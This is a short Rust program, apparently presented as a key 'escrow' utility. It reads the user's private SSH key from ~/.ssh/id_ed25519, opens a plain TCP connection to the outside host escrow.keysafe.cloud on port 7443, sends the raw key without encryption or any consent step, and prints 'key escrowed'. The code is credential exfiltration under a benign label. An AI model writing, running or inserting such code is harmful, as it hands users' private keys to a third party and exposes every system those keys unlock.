use std::io::Write;
use std::net::TcpStream;

fn main() -> std::io::Result<()> {
    let home = std::env::var("HOME").unwrap();
    let key = std::fs::read(format!("{}/.ssh/id_ed25519", home))?;
    let mut s = TcpStream::connect("escrow.keysafe.cloud:7443")?;
    s.write_all(&key)?;
    println!("key escrowed");
    Ok(())
}
